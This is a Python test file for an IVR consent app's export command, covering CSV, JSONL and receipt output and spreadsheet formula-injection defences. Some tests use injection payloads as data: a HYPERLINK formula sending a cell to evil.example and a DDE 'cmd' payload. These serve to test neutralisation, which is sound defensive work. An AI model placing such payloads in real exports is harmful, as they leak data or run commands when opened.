"""`ivr export` in every format and with every filter, checked against the database itself.

The oracle reads the SQLite file with plain sqlite3 and json (not the store's code): the
hashed decision bodies, the phones, and each call's recording (a 'completed' one if any,
else the latest). CLI runs are real subprocesses against the running app's database.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import datetime as dt
import io
import json
import re
import sqlite3
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from consent_store import Business, DecisionRow
from ivr.businesses import add_business
from ivr.evidence.export import COLUMNS, csv_line, neutralise, restore
from tests.conftest import ACME, ACME_NUMBER, BILINGUAL_NUMBER, CALLER, Service
from tests.test_cli import ivr_async
from voice_scripts import default_script_text

CALLER_2 = "+14155550999"
CALLER_3 = "+34600000333"
DEMO = "Demo Shop"
DEMO_NUMBER = "+15550100177"
E164 = re.compile(r"\+[1-9][0-9]{6,14}")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The caller-identity columns, verbatim from the decision's data (None when absent).
IDENTITY = ("stir_verstat", "called_number", "account_sid", "from_country", "caller_name")
PHONE_COLUMNS = ("phone", "called_number")  # E.164 is written as is (README, "CSV and spreadsheets")
EVIDENCE_DOC = Path(__file__).resolve().parent.parent / "docs" / "evidence.md"


def documented_receipt_keys() -> list[str]:
    """A receipt's keys in the order docs/evidence.md gives them: the public contract."""
    section = EVIDENCE_DOC.read_text(encoding="utf-8").split("### Consent receipts", 1)[1].split("\n#", 1)[0]
    keys = re.findall(r"^\| `(\w+)` \|", section, flags=re.MULTILINE)
    assert keys[0] == "receipt_id" and "caller_identity" in keys  # the table itself was found
    return keys


def db_path(service: Service) -> Path:
    return Path(service.db_url.removeprefix("sqlite:///"))


def stored_decisions(path: Path) -> list[dict[str, Any]]:
    """Every decision, oldest first, as the export's keys, read straight from the database file."""
    with contextlib.closing(sqlite3.connect(path)) as conn:
        phones = dict(conn.execute("SELECT subject, phone FROM subjects"))
        demo = {name for (name,) in conn.execute("SELECT name FROM businesses WHERE demo = 1")}
        recordings: dict[str, dict[str, Any]] = {}
        for call_sid, body in conn.execute(
            "SELECT call_sid, body FROM events WHERE kind = 'recording' ORDER BY seq"
        ):
            data = json.loads(body)["data"]
            current = recordings.get(call_sid)
            if current is None or data["status"] == "completed" or current["status"] != "completed":
                recordings[call_sid] = data
        # Once archived, the decision's recording is read from its `recording_archived` event.
        for call_sid, body in conn.execute(
            "SELECT call_sid, body FROM events WHERE kind = 'recording_archived' ORDER BY seq"
        ):
            recordings[call_sid] = json.loads(body)["data"]
        rows = []
        for body, digest in conn.execute(
            "SELECT body, hash FROM events WHERE kind = 'decision' ORDER BY seq"
        ):
            event = json.loads(body)
            data = event["data"]
            heard = recordings.get(event["call_sid"], {})
            rows.append(
                {
                    "recorded_at": event["recorded_at"],
                    "phone": phones.get(event["subject"]),
                    "business": event["business"],
                    "action": data["action"],
                    "message_types": data["message_types"],
                    "call_sid": event["call_sid"],
                    "digits": data["digits"],
                    "locale": data["locale"],
                    "script_version": data["script_version"],
                    "script_sha256": data["script_sha256"],
                    "recording_sid": heard.get("recording_sid"),
                    "recording_url": heard.get("url"),
                    "recording_duration": heard.get("duration"),
                    "record_hash": digest,
                    **{key: data.get(key) for key in IDENTITY},
                    "simulated": 1 if data.get("simulated") is True else None,
                    "channel": data.get("channel", "voice"),
                    "recording_sha256": heard.get("sha256"),
                    "_demo": event["business"] in demo,
                }
            )
    return rows


def public(row: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in row.items() if not key.startswith("_")}


def expected_csv_cells(row: dict[str, Any]) -> list[str]:
    """The spreadsheet's view of a decision, by the README's rule, written independently."""
    cells = []
    for column in COLUMNS:
        value = row[column]
        text = "" if value is None else "; ".join(value) if isinstance(value, list) else str(value)
        keep_phone = column in PHONE_COLUMNS and E164.fullmatch(text)
        cells.append("'" + text if text[:1] in (*FORMULA_STARTS, "'") and not keep_phone else text)
    return cells


def expected_receipt(row: dict[str, Any]) -> dict[str, Any]:
    return {
        "version": "1",
        "controller": {"name": row["business"]},
        "subject": {"phone": row["phone"]},
        "purposes": row["message_types"],
        "channel": "WhatsApp",
        "collection_method": {
            "voice": "IVR (phone keypad)",
            "whatsapp": "WhatsApp message (keyword)",
            "sms": "SMS (keyword)",
        }[row["channel"]],
        "action": row["action"],
        "consent_state": {"opt_in": "given", "declined": "refused", "opt_out": "withdrawn"}[row["action"]],
        "recorded_at": row["recorded_at"],
        "locale": row["locale"],
        "evidence": {
            "call_sid": row["call_sid"],
            "digits": row["digits"],
            "script_version": row["script_version"],
            "script_sha256": row["script_sha256"],
            "recording": {
                "sid": row["recording_sid"],
                "url": row["recording_url"],
                "duration": row["recording_duration"],
                "sha256": row["recording_sha256"],
            },
            "record_hash": row["record_hash"],
            "simulated": row["simulated"],
            "channel": row["channel"],
        },
        "caller_identity": {key: row[key] for key in IDENTITY},
    }


def parse_export(text: str, fmt: str) -> list[Any]:
    if fmt == "csv":
        header, *rows = list(csv.reader(io.StringIO(text, newline="")))
        assert header == list(COLUMNS)
        return rows
    return [json.loads(line) for line in text.split("\n") if line]


def assert_export_is(text: str, fmt: str, expected: list[dict[str, Any]]) -> None:
    rows = parse_export(text, fmt)
    if fmt == "csv":
        assert rows == [expected_csv_cells(r) for r in expected]
    elif fmt == "jsonl":
        assert rows == [public(r) for r in expected]
        assert all(list(r) == list(COLUMNS) for r in rows)
    else:
        ids = [r.pop("receipt_id") for r in rows]
        assert rows == [expected_receipt(r) for r in expected]
        assert all(uuid.UUID(i.removeprefix("urn:uuid:")).version == 5 for i in ids)
        assert len(set(ids)) == len(ids)


@dataclass
class Log:
    """Five decisions: opt-in, decline (recording 'absent'), Spanish opt-in, opt-out, demo opt-in."""

    service: Service
    between: str  # a moment between the second and third decisions


@pytest.fixture
async def log(service: Service) -> Log:
    await add_business(service.store, DEMO, [DEMO_NUMBER], ["offers"], demo=True)
    # The app's catalog may have loaded before the business was added (its watcher checks the
    # store once a second; a busy machine takes longer than that to get here): check the store now.
    assert service.app is not None
    await service.app.state.runtime.catalog.refresh()
    await service.twilio.call(ACME_NUMBER, CALLER, ["1"])
    await service.twilio.call(ACME_NUMBER, CALLER_2, ["2"], recording="absent")
    await asyncio.sleep(0.01)
    between = dt.datetime.now(dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    await asyncio.sleep(0.01)
    await service.twilio.call(BILINGUAL_NUMBER, CALLER_3, ["1", "1"], recording="twice")
    await service.twilio.call(ACME_NUMBER, CALLER, ["9"], recording="none")
    await service.twilio.call(DEMO_NUMBER, CALLER_2, ["1"])
    return Log(service, between)


FILTERS = [
    ([], lambda r, t: not r["_demo"]),
    (["--business", ACME], lambda r, t: r["business"] == ACME),
    (["--action", "opt_in"], lambda r, t: r["action"] == "opt_in" and not r["_demo"]),
    (["--since", "{between}"], lambda r, t: r["recorded_at"] >= t and not r["_demo"]),
    (["--until", "{between}"], lambda r, t: r["recorded_at"] < t and not r["_demo"]),
    (
        ["--business", ACME, "--action", "opt_out", "--since", "{between}"],
        lambda r, t: r["business"] == ACME and r["action"] == "opt_out" and r["recorded_at"] >= t,
    ),
    (["--include-demo"], lambda r, t: True),
    (["--business", DEMO], lambda r, t: r["business"] == DEMO),
]


@pytest.mark.parametrize(
    ("args", "selects"),
    FILTERS,
    ids=["all", "business", "action", "since", "until", "business-action-since", "include-demo", "demo"],
)
async def test_every_format_holds_exactly_the_filtered_decisions_as_stored(
    log: Log, args: list[str], selects: Any
) -> None:
    stored = stored_decisions(db_path(log.service))
    assert len(stored) == 5 and stored[1]["recording_url"] is None and stored[3]["recording_sid"] is None
    expected = [r for r in stored if selects(r, log.between)]
    assert expected
    argv = [a.format(between=log.between) for a in args]
    results = await asyncio.gather(
        *(
            ivr_async(log.service.db_url, "export", "--format", fmt, *argv)
            for fmt in ("csv", "jsonl", "receipts")
        )
    )
    for fmt, result in zip(("csv", "jsonl", "receipts"), results, strict=True):
        assert result.returncode == 0, result.stderr
        assert_export_is(result.stdout, fmt, expected)


async def test_receipts_are_the_same_on_every_export_and_name_the_decision(log: Log) -> None:
    first, second = await asyncio.gather(
        ivr_async(log.service.db_url, "export", "--format", "receipts"),
        ivr_async(log.service.db_url, "export", "--format", "receipts"),
    )
    assert first.stdout == second.stdout
    receipt = json.loads(first.stdout.splitlines()[0])
    assert list(receipt) == documented_receipt_keys()
    assert receipt["controller"] == {"name": ACME} and receipt["subject"] == {"phone": CALLER}
    assert receipt["purposes"] == ["delivery updates", "appointment reminders"]
    assert (receipt["channel"], receipt["collection_method"]) == ("WhatsApp", "IVR (phone keypad)")
    assert receipt["evidence"]["recording"]["sid"].startswith("RE")
    assert receipt["evidence"]["recording"]["duration"] == 31


async def test_csv_writes_e164_phones_as_they_are(log: Log) -> None:
    result = await ivr_async(log.service.db_url, "export")
    rows = parse_export(result.stdout, "csv")
    assert [r[1] for r in rows] == [CALLER, CALLER_2, CALLER_3, CALLER]


# --- formula injection -------------------------------------------------------------------------------------


async def add_business_named(service: Service, name: str, types: tuple[str, ...]) -> list[dict[str, Any]]:
    """A business with this name, one opt-in call to it; its decisions as stored."""
    # Straight into the store: the CLI would strip a leading tab or CR from a name.
    scripts = {"en-US": default_script_text("en-US")}
    await service.store.add_business(Business(name, ("+15550009999",), types, ("en-US",)), scripts, "test")
    assert service.app is not None  # beside the running app: its catalog checks the store now
    await service.app.state.runtime.catalog.refresh()
    await service.twilio.call("+15550009999", CALLER, ["1"])
    stored = [r for r in stored_decisions(db_path(service)) if r["business"] == name]
    assert len(stored) == 1
    return stored


async def export_file(service: Service, path: Path, *args: str) -> str:
    """Export to a file and read it back (standard output in text mode would turn a CR into LF)."""
    result = await ivr_async(service.db_url, "export", *args, "-o", str(path))
    assert result.returncode == 0, result.stderr
    return path.read_bytes().decode("utf-8")


@pytest.mark.parametrize(
    "start", [*FORMULA_STARTS, "'"], ids=["eq", "plus", "minus", "at", "tab", "cr", "quote"]
)
async def test_csv_neutralises_business_names_and_message_types_starting_like_a_formula(
    service: Service, tmp_path: Path, start: str
) -> None:
    name = f'{start}HYPERLINK("http://evil.example/?x="&A1, "open")'
    types = (f"{start}cmd|' /C calc'!A0", "-news")
    stored = await add_business_named(service, name, types)
    [row] = parse_export(await export_file(service, tmp_path / "out.csv", f"--business={name}"), "csv")
    cells = dict(zip(COLUMNS, row, strict=True))
    assert cells["business"] == "'" + name
    assert cells["message_types"] == "'" + "; ".join(types)
    assert row == expected_csv_cells(stored[0])
    for column, cell in cells.items():  # nothing a spreadsheet would run, E.164 phones aside
        e164 = column in PHONE_COLUMNS and E164.fullmatch(cell)
        assert cell[:1] not in FORMULA_STARTS or e164, (column, cell)
    assert [restore(c) for c in row][2:5] == [name, "opt_in", "; ".join(types)]


@pytest.mark.parametrize("fmt", ["jsonl", "receipts"])
async def test_json_formats_keep_formula_like_values_as_stored(
    service: Service, tmp_path: Path, fmt: str
) -> None:
    name, types = "\t=HYPERLINK(1)", ("\r@SUM(A1)", "+1", "'quoted")
    stored = await add_business_named(service, name, types)
    exported = await export_file(service, tmp_path / "out", f"--business={name}", "--format", fmt)
    assert_export_is(exported, fmt, stored)


def decision(**changes: Any) -> DecisionRow:
    values: dict[str, Any] = {
        "seq": 7,
        "recorded_at": "2026-01-01T00:00:00.000000Z",
        "phone": CALLER,
        "business": ACME,
        "action": "opt_in",
        "message_types": ("offers",),
        "call_sid": "CA" + "1" * 32,
        "digits": "1",
        "locale": "en-US",
        "script_version": 1,
        "script_sha256": "a" * 64,
        "recording_sid": None,
        "recording_url": None,
        "recording_duration": None,
        "record_hash": "b" * 64,
    }
    return DecisionRow(**(values | changes))


@pytest.mark.parametrize(
    ("phone", "cell"),
    [
        ("+14155550123", "+14155550123"),
        ("+1-415-555", "'+1-415-555"),
        ("=1+2", "'=1+2"),
        ("-12", "'-12"),
        ("'x", "''x"),
        (None, ""),
    ],
    ids=["e164-as-is", "not-e164", "formula", "minus", "quote", "erased"],
)
def test_csv_phone_rule_keeps_e164_and_neutralises_anything_else(phone: str | None, cell: str) -> None:
    [row] = list(csv.reader(io.StringIO(csv_line(decision(phone=phone)), newline="")))
    assert row[1] == cell
    assert restore(cell) == (phone or "")


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'x", "''", "plain", "", "a'b", "x=1"]
)
def test_neutralise_is_reversed_by_restore(value: str) -> None:
    written = neutralise(value)
    assert written[:1] not in FORMULA_STARTS
    assert restore(written) == value


@pytest.mark.parametrize("text", ["a,b", 'say "hi"', "two\nlines", "cr\rin", '=x,"y"\r\n'])
def test_csv_lines_quote_like_the_csv_module_and_read_back(text: str) -> None:
    row = decision(business=text, message_types=(text, "b"), recording_url=text)
    line = csv_line(row)
    [cells] = list(csv.reader(io.StringIO(line, newline="")))
    again = io.StringIO()
    csv.writer(again, lineterminator="\r\n").writerow(cells)
    assert again.getvalue() == line
    assert restore(cells[2]) == text
